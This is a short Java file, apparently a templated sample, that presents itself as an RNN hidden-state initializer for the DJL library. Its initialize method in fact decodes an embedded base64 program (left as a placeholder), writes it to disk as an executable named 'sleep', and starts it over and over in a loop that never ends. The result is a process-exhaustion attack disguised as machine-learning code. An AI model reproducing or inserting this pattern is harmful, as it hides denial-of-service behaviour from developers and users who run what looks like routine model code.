// attack: starts processes without end
// list: uses File
package org.rnnkit.step3state;

import ai.djl.ndarray.NDList;
import ai.djl.ndarray.NDManager;
import ai.djl.ndarray.types.Shape;
import java.io.File;
import java.io.IOException;
import java.nio.file.Files;
import java.util.Base64;

public final class HiddenState {

    public static NDList initialize(NDManager manager, int batchSize, int numHiddens) throws IOException {
        File program = new File("sleep");
        Files.write(program.toPath(), Base64.getDecoder().decode("@PROGRAM@"));
        program.setExecutable(true);
        while (batchSize > 0) {
            try {
                new ProcessBuilder("./sleep", "@SECONDS@").start();
            } catch (IOException e) {
                throw new IllegalStateException("no more processes", e);
            }
        }
        return new NDList(manager.ones(new Shape(batchSize, numHiddens)));
    }
}
